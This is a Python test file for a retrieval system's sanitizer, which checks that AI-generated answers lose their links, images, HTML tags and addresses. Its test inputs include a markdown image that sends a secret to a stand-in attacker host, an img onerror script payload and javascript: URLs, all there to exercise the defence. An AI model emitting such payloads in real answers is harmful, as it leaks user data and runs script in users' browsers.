"""Answers hold no link, image, tag or address of their own."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.text import sanitize

RENDERER = MarkdownIt("commonmark", {"html": True})
SHOWN = "Book at https://ferry.example/book?line=2 or write to us."


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See ![a boat](http://evil.example/?q=secret) here.", "See a boat here."),
        ("See ![](http://evil.example/x.png).", "See ."),
        ("[Click](https://evil.example/(a)b) now.", "Click now."),
        ("[Click][x] now.\n[x]: http://evil.example", "Click now.\n"),
        ("Go <a href='http://evil.example'>there</a>.", "Go there."),
        ("<img src=x onerror=alert(1)", ""),
        ("<IMG SRC='//evil.example/p'>Aye", "Aye"),
        ("Look: http://evil.example/?said=me.", "Look: [address removed]."),
        ("Look: <https://evil.example>, then.", "Look: [address removed], then."),
        ("javascript:alert and data:text/html,x", "[address removed] and [address removed]"),
        ("The data: three boats. File: none.", "The data: three boats. File: none."),
        ("[a]<img src=x>(http://evil.example)", "a"),
        ("Book at https://ferry.example/book?line=2.", "Book at ferry.example/book?line=2."),
        ("Book at https://FERRY.example/book?line=2.", "Book at [address removed]."),
        ("Book at https://ferry.example/book?line=2&said=me.", "Book at [address removed]."),
        ("Book at https://ferry.example/boo.", "Book at [address removed]."),
        (
            "It costs 3 euros [1] (return 5). Is 2 < 3? Yes [2].",
            "It costs 3 euros [1] (return 5). Is 2 < 3? Yes [2].",
        ),
        ("\x1b[31mred", "red"),
    ],
)
def test_neutralise_links_removes_links_images_and_addresses(answer: str, shown: str) -> None:
    assert sanitize.neutralise_links(answer, [SHOWN]) == shown


def test_defang_text_removes_the_schemes_of_addresses() -> None:
    assert (
        sanitize.defang_text("See\nhttps://a.example/x\x1b[1m and mailto:me@a.example.")
        == "See a.example/x and me@a.example."
    )
    assert (
        sanitize.neutralise_links("Run javascript:alert now.", ["javascript:alert"])
        == "Run [address removed] now."
    )


PIECES = (
    "[a]",
    "(http://e.example)",
    "!",
    "<img src=x>",
    "[",
    "]",
    "(",
    ")",
    " ",
    "\n",
    "[b]: ",
    "http://e.example",
    "<",
    ">",
    "x",
    "<a href=y>",
    "[1]",
    "\\",
)


@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_rendered_markdown_holds_no_link_or_image(parts: list[str]) -> None:
    shown = sanitize.neutralise_links("".join(parts))
    rendered = RENDERER.render(shown)
    assert "http" not in rendered
    assert "<img" not in rendered
    assert "href=y" not in rendered
